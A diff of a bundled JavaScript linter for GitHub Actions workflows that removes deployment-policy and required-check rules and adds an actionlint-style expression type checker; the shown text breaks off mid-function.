-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/index.js
-
-
-const permissions_family = {
-    name: 'permissions',
-    title: 'Permissions and secrets',
-    description: 'What the token may do and where secrets go.',
-    rules: [
-        missing_permissions,
-        hardcoded_secret
-    ]
-};
-/* harmony default export */ const permissions = (permissions_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-jobs.js
-/**
- * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
- * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
- *
- * A job deploys when one of its steps uses our deploy action (`owner/phase-gates/actions/deploy@…`,
- * `./actions/deploy`) or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step),
- * when it is bound to an `environment:`, or when its id or name says so (deploy, release, publish,
- * rollout, production, prod) and a step runs a deploy command (kubectl apply, helm upgrade,
- * terraform apply, …). A job that publishes a package (npm publish, twine upload, cargo publish,
- * the PyPI publish action, …) and deploys nothing is not a deploy job, even when it is bound to an
- * environment: trusted publishing asks for one, and a package has no service to smoke-test.
+ * The types of expressions, ported from actionlint's expr_type.go and expr_sema.go: `any`, `null`,
+ * `number`, `bool`, `string`, objects (strict with known properties, a map `{string => T}`, or
+ * loose when unknown) and arrays. {@link checkExpression} types one `${{ }}` in a {@link Scope}
+ * (the type of each context there) and lists what is wrong with it: unknown properties, comparisons
+ * that are always false, arguments of the wrong type, dereferences of non-objects. What cannot be
+ * known is `any`, which is never wrong.
  */
 
 
-const DEPLOY_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/deploy@|\.\/actions\/deploy\/?$)/i;
-const ROOT_ACTION = /^[^/\s]+\/phase-gates@/i;
-const SMOKE_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/smoke-test@|\.\/actions\/smoke-test\/?$)/i;
-const GATES_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/gates-enforcer@|\.\/actions\/gates-enforcer\/?$)/i;
-const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
-const DEPLOY_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout)\b|helm\s+(?:\S+\s+)*?upgrade\b|terraform\s+(?:\S+\s+)*?apply\b|aws\s+ecs\s+update-service\b|az\s+webapp\s+deploy\b|gcloud\s+run\s+deploy\b|vercel\s+(?:deploy\s+)?.*--prod\b|serverless\s+deploy\b|sls\s+deploy\b)/i;
-const PUBLISH_COMMAND = /\b(?:(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b|twine\s+upload\b|(?:uv|poetry|flit|hatch)\s+publish\b|cargo\s+publish\b|gem\s+push\b|dotnet\s+nuget\s+push\b)/i;
-const PUBLISH_ACTION = /^pypa\/gh-action-pypi-publish@/i;
-const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez)\b/i;
-const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
-const PRODUCTION = /^(?:prod|production)$/i;
-const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
-function deploy_jobs_pos(token) {
-    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
+
+
+
+
+const ANY = { kind: 'any' };
+const NULL = { kind: 'null' };
+const NUMBER = { kind: 'number' };
+const BOOL = { kind: 'bool' };
+const STRING = { kind: 'string' };
+/** A strict object: exactly these properties. */
+function strictObject(props = {}) {
+    return { kind: 'object', props: props instanceof Map ? props : new Map(Object.entries(props)) };
 }
-/** The value of `key` in a mapping token, with its position. */
-function mappingValue(token, key) {
-    if (!token || !(0,dist/* isMapping */.pi)(token))
-        return undefined;
-    for (const pair of token)
-        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
-            return pair.value;
-    return undefined;
+/** An object with these properties and any others (of any type). */
+function looseObject(props = {}) {
+    return { kind: 'object', props: new Map(Object.entries(props)), mapped: ANY };
 }
-/** A token as a reportable node. */
-function nodeOf(token) {
-    return { at: deploy_jobs_pos(token) };
+/** `{string => T}`: any property, each of type T. */
+function mapOf(t) {
+    return { kind: 'object', props: new Map(), mapped: t };
 }
-/** A literal `true` (the parser may keep it as a boolean or a string). */
-function isTrue(token) {
-    return !!token && (0,dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
+function arrayOf(elem, deref = false) {
+    return { kind: 'array', elem, deref };
 }
-/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
-function environmentName(token) {
-    if (!token)
-        return undefined;
-    const name = (0,dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
-    return name && (0,dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
-}
-function isDeployAction(uses) {
-    return !!uses && DEPLOY_ACTION.test(uses.trim());
-}
-function isRootAction(uses) {
-    return !!uses && ROOT_ACTION.test(uses.trim());
-}
-/** A step that deploys: our deploy or root action, or a deploy command. */
-function isDeployStep(step) {
-    return isDeployAction(step.uses?.value) || isRootAction(step.uses?.value) || (!!step.run && DEPLOY_COMMAND.test(step.run.value));
-}
-/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check). */
-function isSmokeStep(step) {
-    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
-        return true;
-    return !!step.run && SMOKE_COMMAND.test(step.run.value);
-}
-/** A step running our gates-enforcer action. */
-function isGatesStep(step) {
-    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
-}
-/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
-function isGatesJob(job) {
-    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
-}
-function isProduction(name) {
-    return PRODUCTION.test(name);
-}
-function isStaging(name) {
-    return STAGING.test(name);
-}
-/** A step that publishes a package to a registry. */
-function isPublishStep(step) {
-    return (!!step.uses && PUBLISH_ACTION.test(step.uses.value.trim())) || (!!step.run && PUBLISH_COMMAND.test(step.run.value));
-}
-/** The job as a deploy job, or undefined when it does not deploy. */
-function deployJob(job) {
-    const deployStep = job.steps.find(isDeployStep);
-    const byAction = job.steps.some((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value));
-    if (!deployStep && job.steps.some(isPublishStep))
-        return undefined;
-    const named = DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
-    if (!byAction && job.environment === undefined && !(named && deployStep))
-        return undefined;
-    const environments = [];
-    const jobEnv = environmentName(job.environment);
-    if (jobEnv)
-        environments.push(jobEnv);
-    for (const step of job.steps) {
-        if (!isDeployAction(step.uses?.value) && !isRootAction(step.uses?.value))
-            continue;
-        const input = step.with.get('environment')?.value;
-        if (input && (0,dist/* isLiteral */.c$)(input))
-            environments.push(input.toString().trim());
-    }
-    return {
-        job,
-        deployStep,
-        rootAction: job.steps.some((s) => isRootAction(s.uses?.value)),
-        environments,
-        production: environments.some(isProduction),
-        staging: environments.some(isStaging)
-    };
-}
-/** Every deploy job of the workflow, in file order. */
-function deployJobs(workflow) {
-    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
-}
-const dependentsOf = new WeakMap();
-/** The jobs that need each job directly, built once per workflow. */
-function dependents(workflow) {
-    let map = dependentsOf.get(workflow);
-    if (!map) {
-        map = new Map();
-        for (const job of workflow.jobs) {
-            for (const needed of neededJobs(workflow, job)) {
-                const list = map.get(needed);
-                if (list)
-                    list.push(job);
-                else
-                    map.set(needed, [job]);
-            }
+/** The type as actionlint writes it: `{a: string; b: number}`, `{string => string}`, `object`, `array<T>`. */
+function typeName(t, depth = 0, mostProps = Infinity) {
+    if (depth > 8)
+        return '…';
+    switch (t.kind) {
+        case 'object': {
+            if (t.mapped)
+                return t.mapped.kind === 'any' ? 'object' : `{string => ${typeName(t.mapped, depth + 1, mostProps)}}`;
+            const names = [...t.props.keys()].sort();
+            const shown = names.slice(0, mostProps).map((n) => `${n}: ${typeName(t.props.get(n), depth + 1, mostProps)}`);
+            if (names.length > shown.length)
+                shown.push(`… ${names.length - shown.length} more`);
+            return `{${shown.join('; ')}}`;
         }
-        dependentsOf.set(workflow, map);
+        case 'array':
+            return `array<${typeName(t.elem, depth + 1, mostProps)}>`;
+        default:
+            return t.kind;
     }
-    return map;
 }
-/**
- * The jobs that a job of `sources` waits for, directly or through other jobs (`upstream`), or that
- * wait for one (`downstream`); job ids are case-insensitive. One breadth-first pass over the needs
- * graph for all sources together: linear in the workflow, however many jobs it has. A source is in
- * the result only when a path leads to it from a source: from another, or from itself around a
- * cycle (which GitHub refuses, and PG111 reports).
- */
-function reachable(workflow, sources, direction) {
-    const edges = direction === 'upstream' ? (j) => neededJobs(workflow, j) : (j) => dependents(workflow).get(j) ?? [];
-    const seen = new Set();
-    const queue = [...sources];
-    for (let i = 0; i < queue.length; i++) {
-        for (const next of edges(queue[i])) {
-            if (seen.has(next))
-                continue;
-            seen.add(next);
-            queue.push(next);
-        }
-    }
-    return seen;
-}
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/production-before-staging.js
-
-
-const production_before_staging_rule = {
-    id: 'PG300',
-    name: 'production-before-staging',
-    level: 'error',
-    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
-    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
-    create(context) {
-        return {
-            workflowPost(workflow) {
-                const deploys = deployJobs(workflow);
-                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
-                const afterStaging = reachable(workflow, staging, 'downstream');
-                for (const d of deploys) {
-                    if (!d.production)
-                        continue;
-                    if (afterStaging.has(d.job))
-                        continue;
-                    const hint = staging.size ? ` (add ${staging.size === 1 ? nameList([...staging].map((j) => j.id.value)) : `one of ${nameList([...staging].map((j) => j.id.value))}`} to its needs)` : ' (the workflow has no staging deploy job)';
-                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const production_before_staging = (production_before_staging_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-environment.js
-
-const deploy_without_environment_rule = {
-    id: 'PG301',
-    name: 'deploy-without-environment',
-    level: 'warning',
-    description: 'A deploy job that is not bound to an `environment:`.',
-    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that deploys (with our deploy action, or by its name and a deploy command such as `kubectl apply` or `helm upgrade`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job.',
-    create(context) {
-        return {
-            workflowPost(workflow) {
-                for (const d of deployJobs(workflow)) {
-                    if (d.job.environment !== undefined)
-                        continue;
-                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
-                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-smoke-test.js
-
-const deploy_without_smoke_test_rule = {
-    id: 'PG302',
-    name: 'deploy-without-smoke-test',
-    level: 'warning',
-    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
-    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
-    create(context) {
-        return {
-            workflowPost(workflow) {
-                const beforeSmoke = reachable(workflow, workflow.jobs.filter((j) => j.steps.some(isSmokeStep)), 'upstream');
-                for (const d of deployJobs(workflow)) {
-                    if (d.rootAction)
-                        continue;
-                    const after = d.deployStep?.index ?? -1;
-                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
-                        continue;
-                    if (beforeSmoke.has(d.job))
-                        continue;
-                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
-                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-concurrency.js
-
-const deploy_without_concurrency_rule = {
-    id: 'PG303',
-    name: 'deploy-without-concurrency',
-    level: 'warning',
-    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
-    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
-    create(context) {
-        return {
-            workflowPost(workflow) {
-                const deploys = deployJobs(workflow);
-                if (!deploys.length)
-                    return;
-                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
-                if (isTrue(workflowCancel)) {
-                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
-                    context.report(workflow.file, nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
-                }
-                for (const d of deploys) {
-                    if (d.job.concurrency === undefined) {
-                        if (workflow.concurrency === undefined) {
-                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
-                        }
-                        continue;
-                    }
-                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
-                    if (isTrue(cancel)) {
-                        context.report(workflow.file, nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
-                    }
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-before-gates.js
-
-const deploy_before_gates_rule = {
-    id: 'PG304',
-    name: 'deploy-before-gates',
-    level: 'error',
-    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
-    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
-    create(context) {
-        return {
-            workflowPost(workflow) {
-                const afterGates = reachable(workflow, workflow.jobs.filter(isGatesJob), 'downstream');
-                for (const d of deployJobs(workflow)) {
-                    if (!d.production || d.rootAction)
-                        continue;
-                    const before = d.deployStep?.index ?? d.job.steps.length;
-                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
-                        continue;
-                    if (afterGates.has(d.job))
-                        continue;
-                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/index.js
-
-
-
-
-
-const deployment_family = {
-    name: 'deployment',
-    title: 'Deployment policy',
-    description: 'The deployment policy: staging before production, environments, smoke tests, concurrency, gates.',
-    rules: [
-        production_before_staging,
-        deploy_without_environment,
-        deploy_without_smoke_test,
-        deploy_without_concurrency,
-        deploy_before_gates
-    ]
-};
-/* harmony default export */ const deployment = (deployment_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-checks.js
-/**
- * Shared by the required-checks rules (PG400–PG402): the status check names the jobs of the
- * checked workflows produce, as GitHub forms them, and whether a pull request can skip them.
- */
-
-/** Pull request triggers whose filters leave a check pending forever. */
-const PR_TRIGGERS = ['pull_request', 'pull_request_target'];
-const FILTERS = ['paths', 'paths-ignore', 'branches', 'branches-ignore'];
-/** Reads the source once per source object, whatever rule asks first. */
-const states = new WeakMap();
-function readRequired(source) {
-    let p = states.get(source);
-    if (!p) {
-        p = source.read();
-        states.set(source, p);
-    }
-    return p;
-}
-/** Most jobs a matrix may make in a workflow run (GitHub's limit). */
-const MAX_MATRIX_JOBS = 256;
-function literal(token) {
-    return token && (0,dist/* isLiteral */.c$)(token) ? token.toString() : undefined;
-}
-/** The literal matrix combinations of a job (axes, minus exclude, plus include); undefined when it has no matrix or it is not literal. */
-function matrixCombinations(job) {
-    const strategy = job.strategy;
-    if (!strategy || !(0,dist/* isMapping */.pi)(strategy))
-        return undefined;
-    let matrix;
-    for (const pair of strategy)
-        if (literal(pair.key) === 'matrix')
-            matrix = pair.value;
-    if (!matrix)
-        return undefined;
-    if (!(0,dist/* isMapping */.pi)(matrix))
-        return 'dynamic';
-    const axes = [];
-    const include = [];
-    const exclude = [];
-    const objects = (token, into) => {
-        if (!(0,dist/* isSequence */.wZ)(token))
-            return false;
-        for (const item of token) {
-            if (!(0,dist/* isMapping */.pi)(item))
+/** Whether a value of type `other` may be given where `to` is expected (actionlint's Assignable). */
+function assignable(to, other) {
+    if (other.kind === 'any')
+        return true;
+    switch (to.kind) {
+        case 'any':
+        case 'bool':
+            return true;
+        case 'null':
+            return other.kind === 'null';
+        case 'number':
+            return other.kind === 'number';
+        case 'string':
+            return other.kind === 'string' || other.kind === 'number';
+        case 'array':
+            return other.kind === 'array' && assignable(to.elem, other.elem);
+        case 'object': {
+            if (other.kind !== 'object')
                 return false;
-            const o = {};
-            for (const p of item) {
-                const k = literal(p.key);
-                const v = literal(p.value);
-                if (k === undefined || v === undefined)
-                    return false;
-                o[k] = v;
+            if (to.mapped) {
+                if (other.mapped)
+                    return assignable(to.mapped, other.mapped);
+                return [...other.props.values()].every((t) => assignable(to.mapped, t));
             }
-            into.push(o);
-        }
-        return true;
-    };
-    for (const pair of matrix) {
-        const key = literal(pair.key);
-        if (key === undefined)
-            return 'dynamic';
-        if (key === 'include' || key === 'exclude') {
-            if (!objects(pair.value, key === 'include' ? include : exclude))
-                return 'dynamic';
-            continue;
-        }
-        if (!(0,dist/* isSequence */.wZ)(pair.value))
-            return 'dynamic';
-        const values = [];
-        for (const v of pair.value) {
-            const s = literal(v);
-            if (s === undefined)
-                return 'dynamic';
-            values.push(s);
-        }
-        axes.push([key, values]);
-    }
-    // GitHub refuses a matrix of more than 256 jobs (https://docs.github.com/en/actions/reference/limits):
-    // such a product is not expanded (it would be exponential in the axes), its names stay unknown.
-    if (axes.reduce((n, [, values]) => n * Math.max(values.length, 1), 1) > MAX_MATRIX_JOBS)
-        return 'dynamic';
-    let combos = axes.length ? [{}] : [];
-    for (const [key, values] of axes)
-        combos = combos.flatMap((c) => values.map((v) => ({ ...c, [key]: v })));
-    combos = combos.filter((c) => !exclude.some((e) => Object.entries(e).every(([k, v]) => c[k] === v)));
-    const axisNames = new Set(axes.map(([k]) => k));
-    for (const inc of include) {
-        // Added to every combination whose original values it does not overwrite; else a new combination.
-        const matching = combos.filter((c) => Object.entries(inc).every(([k, v]) => !axisNames.has(k) || c[k] === v));
-        if (matching.length) {
-            for (const c of matching)
-                Object.assign(c, inc);
-        }
-        else {
-            combos.push({ ...inc });
-            if (combos.length > MAX_MATRIX_JOBS)
-                return 'dynamic';
+            if (other.mapped)
+                return [...to.props.values()].every((t) => assignable(t, other.mapped));
+            return [...other.props].every(([n, r]) => to.props.has(n) && assignable(to.props.get(n), r));
         }
     }
-    return combos;
 }
+/** The type of a value that is one of `a` or `b` (actionlint's Merge). */
+function merge(a, b) {
+    switch (a.kind) {
+        case 'any':
+            return a;
+        case 'null':
+            return b.kind === 'null' ? a : ANY;
+        case 'number':
+        case 'bool':
+            return b.kind === a.kind ? a : b.kind === 'string' ? b : ANY;
+        case 'string':
+            return b.kind === 'string' || b.kind === 'number' || b.kind === 'bool' ? a : ANY;
+        case 'array':
+            if (b.kind !== 'array')
+                return ANY;
+            if (a.elem.kind === 'any')
+                return a;
+            if (b.elem.kind === 'any')
+                return b;
+            return arrayOf(merge(a.elem, b.elem));
+        case 'object': {
+            if (b.kind !== 'object')
+                return ANY;
+            if (a.props.size === 0 && b.mapped?.kind === 'any')
+                return b;
+            if (b.props.size === 0 && a.mapped?.kind === 'any')
+                return a;
+            let mapped = a.mapped === undefined ? b.mapped : b.mapped !== undefined ? merge(a.mapped, b.mapped) : a.mapped;
+            const props = new Map(a.props);
+            for (const [n, r] of b.props) {
+                const l = props.get(n);
+                if (l)
+                    props.set(n, merge(l, r));
+                else {
+                    props.set(n, r);
+                    if (mapped)
+                        mapped = merge(mapped, r);
+                }
+            }
+            return { kind: 'object', props, mapped };
+        }
+    }
+}
+/** The type of a JSON value (for `fromJSON('…')` of a literal). */
+function typeOfJSON(v, depth = 0) {
+    if (depth > 32)
+        return ANY;
+    if (v === null)
+        return NULL;
+    if (typeof v === 'boolean')
+        return BOOL;
+    if (typeof v === 'number')
+        return NUMBER;
+    if (typeof v === 'string')
+        return STRING;
+    if (Array.isArray(v)) {
+        let elem;
+        for (const e of v)
+            elem = elem ? merge(elem, typeOfJSON(e, depth + 1)) : typeOfJSON(e, depth + 1);
+        return arrayOf(elem ?? ANY);
+    }
+    const props = new Map();
+    for (const [k, e] of Object.entries(v))
+        props.set(k.toLowerCase(), typeOfJSON(e, depth + 1));
+    return strictObject(props);
+}
+const sig = (name, ret, params, variadic = false) => ({ name, ret, params, variadic });
+/** Every function of GitHub's expressions by lower-case name, with its overloads. */
+const FUNCTIONS = new Map([
+    ['contains', [sig('contains', BOOL, [STRING, STRING]), sig('contains', BOOL, [arrayOf(ANY), ANY])]],
+    ['startswith', [sig('startsWith', BOOL, [STRING, STRING])]],
+    ['endswith', [sig('endsWith', BOOL, [STRING, STRING])]],
+    ['format', [sig('format', STRING, [STRING, ANY], true)]],
+    ['join', [sig('join', STRING, [arrayOf(STRING), STRING]), sig('join', STRING, [arrayOf(STRING)])]],
+    ['tojson', [sig('toJSON', STRING, [ANY])]],
+    ['fromjson', [sig('fromJSON', ANY, [STRING])]],
+    ['hashfiles', [sig('hashFiles', STRING, [STRING], true)]],
+    ['success', [sig('success', BOOL, [])]],
+    ['always', [sig('always', BOOL, [])]],
+    ['cancelled', [sig('cancelled', BOOL, [])]],
+    ['failure', [sig('failure', BOOL, [])]],
+    ['case', [sig('case', ANY, [BOOL, ANY, ANY], true)]]
+]);
+function signatureText(s) {
+    return `${s.name}(${s.params.map((p) => typeName(p)).join(', ')}${s.variadic ? '...' : ''}) -> ${typeName(s.ret)}`;
+}
+/** Most retries of a parse with a name the parser did not know (reported by the parser rules). */
+const MAX_UNKNOWN_NAMES = 16;
+const BUILTIN_CONTEXTS = ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'];
+const EXTRA_FUNCTIONS = ['hashFiles', 'success', 'always', 'cancelled', 'failure'];
 /**
- * The parser turns `test-${{ matrix.os }}` into `${{ format('test-{0}', matrix.os) }}`: back to
- * the template, so that matrix values expand into it.
+ * The tree of an expression, whatever names it uses: unknown contexts and functions are the
+ * parser rules' business (PG103, PG104), and must not hide the types of the rest.
  */
-function templateText(value) {
-    const m = /^\$\{\{\s*format\('((?:[^']|'')*)'\s*((?:,\s*[^,()]+?)*)\s*\)\s*\}\}$/.exec(value);
-    if (!m)
-        return value;
-    const args = m[2].split(',').map((a) => a.trim()).filter(Boolean);
-    return m[1]
-        .replace(/''/g, "'")
-        .replace(/\{\{|\}\}|\{(\d+)\}/g, (whole, i) => (whole === '{{' ? '{' : whole === '}}' ? '}' : args[Number(i)] !== undefined ? `\${{ ${args[Number(i)]} }}` : whole));
-}
-const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g;
-/** A job's check names as GitHub forms them (a regexp where run-time values remain). */
-function jobCheckNames(job) {
-    const base = job.name ? templateText(job.name.value) : job.id.value;
-    const combos = matrixCombinations(job);
-    const expand = (text, values) => {
-        let dynamic = false;
-        const name = text.replace(EXPRESSION, (whole, expr) => {
-            const m = /^matrix\.([\w-]+)$/.exec(expr);
-            if (m && m[1] in values)
-                return values[m[1]];
-            dynamic = true;
-            return whole;
-        });
-        if (!dynamic)
-            return { name };
-        const source = name
-            .split(EXPRESSION)
-            .map((part, i) => (i % 2 ? '.*' : part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')))
-            .join('');
-        return { name, pattern: new RegExp(`^${source}$`) };
-    };
-    if (combos === undefined || (Array.isArray(combos) && combos.length === 0))
-        return [expand(base, {})];
-    if (combos === 'dynamic')
-        return [/\$\{\{[^}]*matrix\./.test(base) ? expand(base, {}) : expand(`${base} (\${{ matrix }})`, {})];
-    const usesMatrix = /\$\{\{[^}]*matrix\./.test(base);
-    return combos.map((c) => (usesMatrix ? expand(base, c) : expand(`${base} (${Object.values(c).join(', ')})`, c)));
-}
-/** An `if:` that can be false: anything but `always()` and `true`. */
-function canSkip(condition) {
-    if (condition === undefined)
-        return false;
-    const c = condition.trim().replace(/^\$\{\{\s*(.*?)\s*\}\}$/, '$1').trim();
-    return !(c === 'true' || c === 'always()');
-}
-/** The filters of a workflow's pull request triggers that can leave it unstarted, e.g. `pull_request.paths`. */
-function prFilter(workflow) {
-    for (const trigger of PR_TRIGGERS) {
-        const entry = workflow.on.get(trigger);
-        if (!entry || !(0,dist/* isMapping */.pi)(entry.value))
-            continue;
-        for (const pair of entry.value) {
-            const key = literal(pair.key);
-            if (key && FILTERS.includes(key)) {
-                const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : entry.key.at;
-                return { reason: `\`${trigger}.${key}\` of workflow ${workflow.file.path}`, node: { at } };
-            }
+function parseLenient(text) {
+    const contexts = [...BUILTIN_CONTEXTS];
+    const functions = EXTRA_FUNCTIONS.map((name) => ({ name, description: '', minArgs: 0, maxArgs: 255 }));
+    for (let i = 0; i <= MAX_UNKNOWN_NAMES; i++) {
+        try {
+            return new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(text).lex().tokens, contexts, functions).parse();
+        }
+        catch (err) {
+            if (!(err instanceof errors/* ExpressionError */.tj))
+                return undefined;
+            const { typ, tok } = err;
+            const name = tok.lexeme;
+            if (typ === errors/* ErrorType */.By.ErrorUnrecognizedContext || typ === errors/* ErrorType */.By.ErrorUnrecognizedNamedValue)
+                contexts.push(name);
+            else if (typ === errors/* ErrorType */.By.ErrorUnrecognizedFunction)
+                functions.push({ name, description: '', minArgs: 0, maxArgs: 255 });
+            else
+                return undefined;
         }
     }
     return undefined;
 }
-/** Every check name the jobs of the checked workflows produce, reusable workflows followed one level per call. */
-function producedChecks(project) {
-    const out = [];
-    for (const file of project.files) {
-        const workflow = file.model;
-        if (!workflow || workflow.kind !== 'workflow')
-            continue;
-        // A workflow only others call produces its checks under its callers' names.
-        if (workflow.on.size === 1 && workflow.workflowCall)
-            continue;
-        const filter = prFilter(workflow);
-        for (const job of workflow.jobs) {
-            const jobSkip = canSkip(job.if?.value) ? { reason: `the \`if:\` of job "${job.id.value}"`, node: job.if } : undefined;
-            const skip = filter ? { ...filter, hard: true } : jobSkip ? { ...jobSkip, hard: false } : undefined;
-            const names = jobCheckNames(job);
-            if (!job.uses) {
-                for (const n of names)
-                    out.push({ ...n, workflow, job, skip });
-                continue;
-            }
-            const callee = project.local(job.uses.value);
-            for (const caller of names) {
-                if (!callee || callee.kind !== 'workflow') {
-                    out.push({ name: `${caller.name} / …`, pattern: new RegExp(`^${required_checks_escape(caller.name)} / .*$`), workflow, job, skip });
-                    continue;
-                }
-                for (const inner of callee.jobs) {
-                    const innerSkip = skip ?? (canSkip(inner.if?.value) ? { reason: `the \`if:\` of job "${inner.id.value}" in ${callee.file.path}`, node: job.uses, hard: false } : undefined);
-                    for (const n of jobCheckNames(inner)) {
-                        const name = `${caller.name} / ${n.name}`;
-                        const pattern = caller.pattern || n.pattern ? new RegExp(`^${caller.pattern ? caller.pattern.source.slice(1, -1) : required_checks_escape(caller.name)} / ${n.pattern ? n.pattern.source.slice(1, -1) : required_checks_escape(n.name)}$`) : undefined;
-                        out.push({ name, pattern, workflow, job, skip: innerSkip });
-                    }
-                }
+/** Most properties of an object type a message spells out (`github` has 44). */
+const MESSAGE_PROPS = 12;
+function ordinal(i) {
+    const s = i % 10 === 1 && i % 100 !== 11 ? 'st' : i % 10 === 2 && i % 100 !== 12 ? 'nd' : i % 10 === 3 && i % 100 !== 13 ? 'rd' : 'th';
+    return `${i}${s}`;
+}
+/** The placeholders `{n}` of a format string (`{{` escapes a brace), as actionlint reads them. */
+function formatPlaceholders(f) {
+    const out = new Set();
+    for (const m of f.replace(/\{\{|\}\}/g, '  ').matchAll(/\{(\d+)\}/g))
+        out.add(Number(m[1]));
+    return out;
+}
+const COMPARISONS = new Map([
+    [lexer/* TokenType */.ks.EQUAL_EQUAL, '=='],
+    [lexer/* TokenType */.ks.BANG_EQUAL, '!='],
+    [lexer/* TokenType */.ks.LESS, '<'],
+    [lexer/* TokenType */.ks.LESS_EQUAL, '<='],
+    [lexer/* TokenType */.ks.GREATER, '>'],
+    [lexer/* TokenType */.ks.GREATER_EQUAL, '>=']
+]);
+/** Whether `l op r` can ever be true (actionlint's validateCompareOpOperands). */
+function comparable(op, l, r) {
+    const composite = (t) => t.kind === 'object' || t.kind === 'array';
